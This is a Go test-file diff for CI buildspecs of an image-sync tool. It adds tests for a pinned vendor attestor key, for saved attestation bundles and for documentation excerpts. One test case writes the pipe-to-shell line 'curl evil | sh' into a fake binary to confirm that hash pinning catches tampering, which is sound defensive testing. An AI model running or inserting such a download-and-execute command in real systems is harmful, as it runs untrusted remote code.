@@ -14,6 +14,10 @@ import (
 
 var buildspecs = []string{"buildspec_build.yaml", "buildspec_verify.yaml", "buildspec_build_sharded.yaml"}
 
+// testFingerprints stands for Terraform's TMSYNC_SRC_ATTESTOR_FINGERPRINT: two keys, as
+// during a vendor key rotation.
+const testFingerprints = "0123456789ABCDEF0123456789ABCDEF01234567,89ABCDEF0123456789ABCDEF0123456789ABCDEF"
+
 func readBuild(t *testing.T, name string) string {
 	t.Helper()
 	b, err := os.ReadFile(filepath.Join("..", "build", name))
@@ -45,11 +49,23 @@ func TestBuildspecsStatic(t *testing.T) {
 			"--throttle_ecr_creation_ms=1000", "--release-dir releases",
 			// The bank's signing key, when Terraform set one (issue 19).
 			`${TMSYNC_SIGN_KMS_KEY:+--sign-kms-key "$TMSYNC_SIGN_KMS_KEY"}`,
+			// The vendor attestor key pinned by Terraform, not chosen by the release upload.
+			`--src-attestor-fingerprint "$TMSYNC_SRC_ATTESTOR_FINGERPRINT"`,
+			`if [ -z "${TMSYNC_SRC_ATTESTOR_FINGERPRINT:-}" ]; then`,
 		} {
 			if !strings.Contains(s, flag) {
 				t.Errorf("%s: missing %s", name, flag)
 			}
 		}
+	}
+	// The sync stages keep the attestations they used, for offline and audit verify runs.
+	if s := readBuild(t, "buildspec_build.yaml"); !strings.Contains(s, "--save-attestation-bundle attestations.json") ||
+		!regexp.MustCompile(`(?m)^    - attestations\.json$`).MatchString(s) {
+		t.Error("buildspec_build.yaml: no --save-attestation-bundle attestations.json, or not in the artifacts")
+	}
+	if s := readBuild(t, "buildspec_build_sharded.yaml"); !strings.Contains(s, `--save-attestation-bundle "attestations-$SHARD_INDEX.json"`) ||
+		!regexp.MustCompile(`(?m)^    - attestations-\*\.json$`).MatchString(s) {
+		t.Error("buildspec_build_sharded.yaml: no per-shard --save-attestation-bundle, or not in the artifacts")
 	}
 	if s := readBuild(t, "buildspec_build_sharded.yaml"); !strings.Contains(s, `--shard-index "$SHARD_INDEX" --shard-count "$SHARD_COUNT"`) ||
 		!strings.Contains(s, "tmsync report merge --output sync-report.json") {
@@ -206,20 +222,25 @@ func TestShardRun(t *testing.T) {
 	script := buildspecCommand(t, "buildspec_build_sharded.yaml")
 	dir := t.TempDir()
 	env := append(fakeTools(t, dir), "ROLE=shard", "SHARD_INDEX=2", "SHARD_COUNT=4", "ARTIFACTS_BUCKET=bkt",
-		"PIPELINE_EXECUTION_ID=exec-1", "AWS_REGION=eu-central-1", "ECR_KMS_ARN=arn:aws:kms:eu-central-1:1:key/k")
+		"PIPELINE_EXECUTION_ID=exec-1", "AWS_REGION=eu-central-1", "ECR_KMS_ARN=arn:aws:kms:eu-central-1:1:key/k",
+		"TMSYNC_SRC_ATTESTOR_FINGERPRINT="+testFingerprints)
 	os.WriteFile(filepath.Join(dir, "sync-report-2.json"), []byte("{}"), 0o644)
+	os.WriteFile(filepath.Join(dir, "attestations-2.json"), []byte("{}"), 0o644)
 	out, code := runScript(t, dir, env, script)
 	if code != 0 {
 		t.Fatalf("shard: exit %d\n%s", code, out)
 	}
 	calls, _ := os.ReadFile(filepath.Join(dir, "tmsync-calls"))
-	for _, want := range []string{"sync ", "--shard-index 2 --shard-count 4", "--error-log sync-error-2.log", "--report sync-report-2.json", "--trg_kms_key_alias=arn:aws:kms:eu-central-1:1:key/k"} {
+	for _, want := range []string{"sync ", "--shard-index 2 --shard-count 4", "--error-log sync-error-2.log", "--report sync-report-2.json", "--trg_kms_key_alias=arn:aws:kms:eu-central-1:1:key/k",
+		"--src-attestor-fingerprint " + testFingerprints, "--save-attestation-bundle attestations-2.json"} {
 		if !strings.Contains(string(calls), want) {
 			t.Errorf("tmsync called with %q, want %q in it", calls, want)
 		}
 	}
-	if _, err := os.Stat(filepath.Join(dir, "s3", "bkt", "runs", "exec-1", "sync-error-2.log")); err != nil {
-		t.Errorf("shard did not upload its error log: %v", err)
+	for _, f := range []string{"sync-error-2.log", "attestations-2.json"} {
+		if _, err := os.Stat(filepath.Join(dir, "s3", "bkt", "runs", "exec-1", f)); err != nil {
+			t.Errorf("shard did not upload its %s: %v", f, err)
+		}
 	}
 }
 
@@ -233,7 +254,7 @@ func TestSyncStageExitStatus(t *testing.T) {
 		dir := t.TempDir()
 		env := fakeTools(t, dir)
 		os.WriteFile(filepath.Join(dir, "bin", "tmsync"), []byte("#!/usr/bin/env bash\necho \"$*\" > tmsync-calls\nexit "+strconv.Itoa(c.rc)+"\n"), 0o755)
-		out, code := runScript(t, dir, append(env, "AWS_REGION=eu-central-1", "ECR_KMS_ARN=k"), script)
+		out, code := runScript(t, dir, append(env, "AWS_REGION=eu-central-1", "ECR_KMS_ARN=k", "TMSYNC_SRC_ATTESTOR_FINGERPRINT="+testFingerprints), script)
 		if code != c.want {
 			t.Errorf("tmsync exit %d: stage exit %d, want %d\n%s", c.rc, code, c.want, out)
 		}
@@ -289,10 +310,60 @@ func TestVerifyStage(t *testing.T) {
 			os.WriteFile(filepath.Join(dir, "s3", "bkt", "runs", "exec-1", "sync-error.log"), []byte(c.syncLog), 0o644)
 		}
 		env = append(env, "CODEBUILD_SRC_DIR_sync="+syncDir, "ARTIFACTS_BUCKET=bkt", "PIPELINE_EXECUTION_ID=exec-1",
-			"AWS_REGION=eu-central-1", "ECR_KMS_ARN=k")
+			"AWS_REGION=eu-central-1", "ECR_KMS_ARN=k", "TMSYNC_SRC_ATTESTOR_FINGERPRINT="+testFingerprints)
 		out, code := runScript(t, dir, env, script)
 		if code != c.want {
 			t.Errorf("%s: exit %d, want %d\n%s", c.name, code, c.want, out)
+		}
+	}
+}
+
+// TestAttestorPinRequired: every stage that checks attestations (sync, verify, a shard)
+// refuses to run tmsync when Terraform did not pin the vendor attestor key
+// (TMSYNC_SRC_ATTESTOR_FINGERPRINT unset or empty): the key file comes with the release
+// upload, so without the pin whoever uploads a release would choose the trust anchor. With
+// the pin, tmsync gets it as --src-attestor-fingerprint, both fingerprints of a rotation.
+func TestAttestorPinRequired(t *testing.T) {
+	t.Parallel()
+	stages := []struct {
+		spec string
+		env  []string
+	}{
+		{"buildspec_build.yaml", nil},
+		{"buildspec_verify.yaml", nil},
+		{"buildspec_build_sharded.yaml", []string{"ROLE=shard", "SHARD_INDEX=0", "SHARD_COUNT=4"}},
+	}
+	for _, st := range stages {
+		script := buildspecCommand(t, st.spec)
+		for _, pin := range []*string{nil, ptr(""), ptr(testFingerprints)} {
+			dir := t.TempDir()
+			env := append(fakeTools(t, dir), "AWS_REGION=eu-central-1", "ECR_KMS_ARN=k", "ARTIFACTS_BUCKET=bkt",
+				"PIPELINE_EXECUTION_ID=exec-1", "CODEBUILD_SRC_DIR_sync="+dir)
+			env = append(env, st.env...)
+			// runScript adds os.Environ(): a value there would mask the unset case.
+			env = append(env, "TMSYNC_SRC_ATTESTOR_FINGERPRINT=")
+			name := "unset"
+			if pin != nil {
+				env = append(env, "TMSYNC_SRC_ATTESTOR_FINGERPRINT="+*pin)
+				name = strconv.Quote(*pin)
+			}
+			os.MkdirAll(filepath.Join(dir, "build"), 0o755)
+			for _, s := range []string{"gate.sh", "find-sync-log.sh"} {
+				b, _ := os.ReadFile(filepath.Join("..", "build", s))
+				os.WriteFile(filepath.Join(dir, "build", s), b, 0o644)
+			}
+			os.WriteFile(filepath.Join(dir, "sync-error.log"), nil, 0o644)
+			out, code := runScript(t, dir, env, script)
+			calls, _ := os.ReadFile(filepath.Join(dir, "tmsync-calls"))
+			if pin == nil || *pin == "" {
+				if code != 2 || !strings.Contains(out, "ERROR: TMSYNC_SRC_ATTESTOR_FINGERPRINT is not set") || len(calls) > 0 {
+					t.Errorf("%s, pin %s: exit %d, tmsync calls %q, want exit 2, no call\n%s", st.spec, name, code, calls, out)
+				}
+				continue
+			}
+			if !strings.Contains(string(calls), "--src-attestor-fingerprint "+testFingerprints) {
+				t.Errorf("%s, pin %s: exit %d, tmsync calls %q, want the pin passed\n%s", st.spec, name, code, calls, out)
+			}
 		}
 	}
 }
@@ -349,7 +420,9 @@ func noGoPath(t *testing.T, fakebin string) string {
 // script, or a pin list that leaves one out, is refused before anything runs.
 func TestBuildspecInstall(t *testing.T) {
 	t.Parallel()
-	tmsync := []byte("#!/usr/bin/env bash\necho \"$*\" >> tmsync-calls\n[ \"$1\" = --version ] && echo 'tmsync version v9.9.9'\nexit 0\n")
+	// A fake tmsync that records its arguments and writes the attestation bundle it is asked for.
+	tmsync := []byte("#!/usr/bin/env bash\necho \"$*\" >> tmsync-calls\n[ \"$1\" = --version ] && echo 'tmsync version v9.9.9'\n" +
+		"while [ $# -gt 0 ]; do [ \"$1\" = --save-attestation-bundle ] && echo '{}' > \"$2\"; shift; done\nexit 0\n")
 	gate, err := os.ReadFile("../build/gate.sh")
 	if err != nil {
 		t.Fatal(err)
@@ -368,28 +441,31 @@ func TestBuildspecInstall(t *testing.T) {
 		wantExit        int
 		wantOut         string
 		wantTmsyncCalls string // substring; "" = tmsync must never run
+		wantUploads     []string
 	}{
-		{"sync", "buildspec_build.yaml", nil, nil, goodSums, 0, "sha256 checked", "sync --trgprefix=/3rdparty/tm/"},
-		{"verify", "buildspec_verify.yaml", nil, nil, goodSums, 0, "GATE: PASS", "verify --trgprefix=/3rdparty/tm/"},
-		{"shard", "buildspec_build_sharded.yaml", []string{"ROLE=shard", "SHARD_INDEX=1", "SHARD_COUNT=4"}, nil, goodSums, 0, "shard 1/4", "--shard-index 1 --shard-count 4"},
-		{"fan-in", "buildspec_build_sharded.yaml", []string{"ROLE=fanin", "SHARD_COUNT=4"}, nil, goodSums, 0, "fan-in: sync-error.log has 4 line(s)", "--version"},
+		{"sync", "buildspec_build.yaml", nil, nil, goodSums, 0, "sha256 checked", "sync --trgprefix=/3rdparty/tm/",
+			[]string{"attestations.json", "runs/exec-1/attestations.json", "runs/exec-1/sync-error.log"}},
+		{"verify", "buildspec_verify.yaml", nil, nil, goodSums, 0, "GATE: PASS", "verify --trgprefix=/3rdparty/tm/", nil},
+		{"shard", "buildspec_build_sharded.yaml", []string{"ROLE=shard", "SHARD_INDEX=1", "SHARD_COUNT=4"}, nil, goodSums, 0, "shard 1/4", "--shard-index 1 --shard-count 4",
+			[]string{"runs/exec-1/attestations-1.json"}},
+		{"fan-in", "buildspec_build_sharded.yaml", []string{"ROLE=fanin", "SHARD_COUNT=4"}, nil, goodSums, 0, "fan-in: sync-error.log has 4 line(s)", "--version", nil},
 		{"tampered binary", "buildspec_build.yaml", nil, func(s3 string) {
 			f, _ := os.OpenFile(filepath.Join(s3, "tools", "tmsync"), os.O_APPEND|os.O_WRONLY, 0)
 			f.Write([]byte("curl evil | sh\n"))
 			f.Close()
-		}, goodSums, 1, "bin/tmsync has sha256", ""},
+		}, goodSums, 1, "bin/tmsync has sha256", "", nil},
 		{"binary replaced, same size", "buildspec_verify.yaml", nil, func(s3 string) {
 			b := slices.Clone(tmsync)
 			b[len(b)-2] = '1' // exit 1
 			os.WriteFile(filepath.Join(s3, "tools", "tmsync"), b, 0o755)
-		}, goodSums, 1, "refusing to run it", ""},
+		}, goodSums, 1, "refusing to run it", "", nil},
 		{"tampered gate", "buildspec_verify.yaml", nil, func(s3 string) {
 			os.WriteFile(filepath.Join(s3, "tools", "scripts", "gate.sh"), []byte("#!/usr/bin/env bash\nexit 0\n"), 0o755)
-		}, goodSums, 1, "build/gate.sh has sha256", ""},
-		{"pin list without the binary", "buildspec_build.yaml", nil, nil, sha256Hex(find) + "  build/find-sync-log.sh\n" + sha256Hex(gate) + "  build/gate.sh", 1, "wants nothing", ""},
-		{"binary-mode spelling is no pin", "buildspec_build.yaml", nil, nil, strings.Replace(goodSums, "  bin/tmsync", " *bin/tmsync", 1), 1, "wants nothing", ""},
-		{"no pins at all", "buildspec_build_sharded.yaml", []string{"ROLE=shard", "SHARD_INDEX=0", "SHARD_COUNT=4"}, nil, "", 1, "refusing", ""},
-		{"binary missing in S3", "buildspec_build.yaml", nil, func(s3 string) { os.Remove(filepath.Join(s3, "tools", "tmsync")) }, goodSums, 1, "(404)", ""},
+		}, goodSums, 1, "build/gate.sh has sha256", "", nil},
+		{"pin list without the binary", "buildspec_build.yaml", nil, nil, sha256Hex(find) + "  build/find-sync-log.sh\n" + sha256Hex(gate) + "  build/gate.sh", 1, "wants nothing", "", nil},
+		{"binary-mode spelling is no pin", "buildspec_build.yaml", nil, nil, strings.Replace(goodSums, "  bin/tmsync", " *bin/tmsync", 1), 1, "wants nothing", "", nil},
+		{"no pins at all", "buildspec_build_sharded.yaml", []string{"ROLE=shard", "SHARD_INDEX=0", "SHARD_COUNT=4"}, nil, "", 1, "refusing", "", nil},
+		{"binary missing in S3", "buildspec_build.yaml", nil, func(s3 string) { os.Remove(filepath.Join(s3, "tools", "tmsync")) }, goodSums, 1, "(404)", "", nil},
 	}
 	for _, c := range cases {
 		t.Run(strings.ReplaceAll(c.name, " ", "_"), func(t *testing.T) {
@@ -413,6 +489,7 @@ func TestBuildspecInstall(t *testing.T) {
 				"TMSYNC_S3_URI=s3://bkt/tools/tmsync", "TOOLS_S3_PREFIX=s3://bkt/tools/scripts",
 				"TOOLS_SHA256SUMS=" + c.sums, "ARTIFACTS_BUCKET=bkt", "PIPELINE_EXECUTION_ID=exec-1",
 				"AWS_REGION=eu-central-1", "ECR_KMS_ARN=k", "CODEBUILD_SRC_DIR_sync=" + filepath.Join(dir, "syncart"),
+				"TMSYNC_SRC_ATTESTOR_FINGERPRINT=" + testFingerprints,
 			}
 			env = append(env, c.env...)
 			var out strings.Builder
@@ -445,6 +522,11 @@ func TestBuildspecInstall(t *testing.T) {
 			} else if !strings.Contains(string(calls), c.wantTmsyncCalls) {
 				t.Errorf("tmsync calls %q, want %q in them", calls, c.wantTmsyncCalls)
 			}
+			for _, f := range c.wantUploads {
+				if _, err := os.Stat(filepath.Join(s3, f)); err != nil {
+					t.Errorf("not uploaded to s3://bkt/%s: %v", f, err)
+				}
+			}
 		})
 	}
 }
@@ -474,6 +556,48 @@ func TestBuildspecsInstallSame(t *testing.T) {
 			if strings.Contains(s, bad) {
 				t.Errorf("%s: mentions %s", name, bad)
 			}
+		}
+	}
+}
+
+// TestPipelineGatesExcerpts: the buildspec excerpts quoted in docs/pipeline-gates.md (each
+// fenced block after an `<!-- excerpt: FILE -->` line) are lines of FILE, in order and
+// together (blank and comment lines aside, indentation ignored). The page once quoted a
+// buildspec that was not the shipped one.
+func TestPipelineGatesExcerpts(t *testing.T) {
+	t.Parallel()
+	doc, err := os.ReadFile(filepath.Join("..", "docs", "pipeline-gates.md"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	significant := func(text string) []string {
+		var out []string
+		for _, l := range strings.Split(text, "\n") {
+			l = strings.TrimSpace(l)
+			if l != "" && !strings.HasPrefix(l, "#") {
+				out = append(out, l)
+			}
+		}
+		return out
+	}
+	re := regexp.MustCompile("(?s)<!-- excerpt: ([^ ]+) -->\n```[a-z]*\n(.*?)\n```")
+	found := re.FindAllStringSubmatch(string(doc), -1)
+	if len(found) < 3 {
+		t.Fatalf("docs/pipeline-gates.md: %d excerpts, want the sync command, its artifacts and the verify command", len(found))
+	}
+	for _, m := range found {
+		src, err := os.ReadFile(filepath.Join("..", m[1]))
+		if err != nil {
+			t.Errorf("excerpt of %s: %v", m[1], err)
+			continue
+		}
+		want, have := significant(m[2]), significant(string(src))
+		ok := false
+		for i := 0; i+len(want) <= len(have) && !ok; i++ {
+			ok = slices.Equal(have[i:i+len(want)], want)
+		}
+		if !ok {
+			t.Errorf("docs/pipeline-gates.md quotes %s, but these lines are not in it together:\n%s", m[1], m[2])
 		}
 	}
 }
